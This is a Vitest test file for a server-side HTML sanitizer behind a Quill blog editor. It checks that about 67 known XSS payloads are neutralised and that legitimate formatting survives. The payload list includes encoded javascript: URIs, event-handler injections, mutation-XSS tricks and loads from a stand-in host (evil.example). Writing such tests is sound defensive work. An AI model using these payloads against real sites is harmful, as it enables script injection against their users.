import { describe, expect, it } from "vitest";
import { sanitizePostHtml } from "./sanitize.server";

// Classic and obfuscated XSS payloads (OWASP filter-evasion cheat sheet, html5sec, mXSS classics).
const VECTORS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" onerror="alert(1)">`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html,<script>alert(1)</script>">`,
  `<img srcset="javascript:alert(1) 1x">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JAVASCRIPT:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java&#x73;cript:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="https://ok.example" onclick="alert(1)">x</a>`,
  `<a href="https://ok.example" onmouseover=alert(1)>x</a>`,
  `<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>`,
  `<p style="background-image:url(javascript:alert(1))">x</p>`,
  `<p style="color: expression(alert(1))">x</p>`,
  `<p style="color:red;behavior:url(x.htc)">x</p>`,
  `<p style="background-color: url('https://evil.example/t.png')">x</p>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<input autofocus onfocus=alert(1)>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onload=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="width: expression(alert(1));">x</div>`,
  `<p onmouseover="alert(1)">hover</p>`,
  `<h1 onclick="alert(1)" class="ql-align-center">x</h1>`,
  `<span style="color:red" onmouseenter="alert(1)">x</span>`,
  `<img """><script>alert(1)</script>">`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<<script>alert(1);//<</script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<a href="https://ok.example" target="_blank">no rel</a>`,
  `<a href="https://ok.example" target="_top" rel="opener">top</a>`,
  `<p class="ql-align-center evil-class" id="hijack" name="x">x</p>`,
  `<img src="https://ok.example/a.png" onload="alert(1)" style="width:1px">`,
  `<template><script>alert(1)</script></template>`,
  `<x onclick=alert(1)>x</x>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>`,
];

function assertSafe(out: string) {
  const lower = out.toLowerCase();
  expect(lower).not.toMatch(
    /<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|video|audio|source|body|template|noscript|details|marquee|div|x)\b/,
  );
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/javascript:|vbscript:|data:/);
  expect(lower).not.toMatch(/expression\(|url\(|behavior|position|srcdoc|formaction|srcset/);
  expect(lower).not.toMatch(/\sid=|\sname=/);
  expect(lower).not.toMatch(/href="\/\//);
  // Every new-tab link has the opener cut off; no other rel/target survives.
  for (const m of out.matchAll(/<a\b[^>]*>/g)) {
    if (m[0].includes("target=")) {
      expect(m[0]).toContain('target="_blank"');
      expect(m[0]).toContain('rel="noopener noreferrer"');
    } else {
      expect(m[0]).not.toContain("rel=");
    }
  }
  // Classes only from the editor's own set.
  for (const m of out.matchAll(/class="([^"]*)"/g)) {
    for (const c of m[1].split(/\s+/)) expect(c).toMatch(/^ql-(align-(center|right|justify)|indent-[1-8])$/);
  }
}

describe("sanitizePostHtml", () => {
  it("has at least 50 attack vectors to check", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(VECTORS.map((v, i) => [i, v]))("neutralises vector #%i", (_i, vector) => {
    assertSafe(sanitizePostHtml(vector as string));
  });

  it("is idempotent: sanitizing twice changes nothing", () => {
    for (const v of VECTORS) {
      const once = sanitizePostHtml(v);
      expect(sanitizePostHtml(once)).toBe(once);
    }
  });

  it("keeps everything Quill's toolbar produces", () => {
    const quill =
      `<h1 class="ql-align-center">Título</h1><h2>Sub</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>` +
      `<p class="ql-align-right"><strong>negrito</strong> <em>itálico</em> <u>sublinhado</u> <s>riscado</s></p>` +
      `<p class="ql-align-justify"><span style="color: rgb(230, 0, 0);">vermelho</span> ` +
      `<span style="background-color: rgb(255, 255, 0);">marcado</span> <span style="color: #06c;">azul</span></p>` +
      `<ol><li data-list="ordered">um</li><li data-list="bullet" class="ql-indent-1">dois</li></ol>` +
      `<ul><li>item</li></ul>` +
      `<p><a href="https://exemplo.com.br/x?a=1&amp;b=2" target="_blank">link</a> ` +
      `<a href="mailto:contato@exemplo.com.br">e-mail</a> <a href="/blog/outro">interno</a></p>` +
      `<p><img src="https://exemplo.com.br/foto.jpg" alt="Foto"></p>`;
    const out = sanitizePostHtml(quill);
    for (const piece of [
      `<h1 class="ql-align-center">Título</h1>`,
      `<h6>6</h6>`,
      `<p class="ql-align-right"><strong>negrito</strong> <em>itálico</em> <u>sublinhado</u> <s>riscado</s></p>`,
      `<span style="color:rgb(230, 0, 0)">vermelho</span>`,
      `<span style="background-color:rgb(255, 255, 0)">marcado</span>`,
      `<span style="color:#06c">azul</span>`,
      `<li data-list="bullet" class="ql-indent-1">dois</li>`,
      `<ul><li>item</li></ul>`,
      `<a href="https://exemplo.com.br/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">link</a>`,
      `<a href="mailto:contato@exemplo.com.br">e-mail</a>`,
      `<a href="/blog/outro">interno</a>`,
      `<img src="https://exemplo.com.br/foto.jpg" alt="Foto" />`,
    ]) {
      expect(out).toContain(piece);
    }
  });

  it("drops Quill's list UI markers and keeps the text of unknown tags", () => {
    expect(
      sanitizePostHtml(
        `<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false"></span>a</li></ol>`,
      ),
    ).toBe(`<ol><li data-list="bullet">a</li></ol>`);
    expect(sanitizePostHtml(`<div><p>texto</p></div>`)).toBe(`<p>texto</p>`);
    expect(sanitizePostHtml(`<script>alert(1)</script><p>ok</p>`)).toBe(`<p>ok</p>`);
  });

  it("returns an empty string for empty input", () => {
    expect(sanitizePostHtml(null)).toBe("");
    expect(sanitizePostHtml("")).toBe("");
  });
});
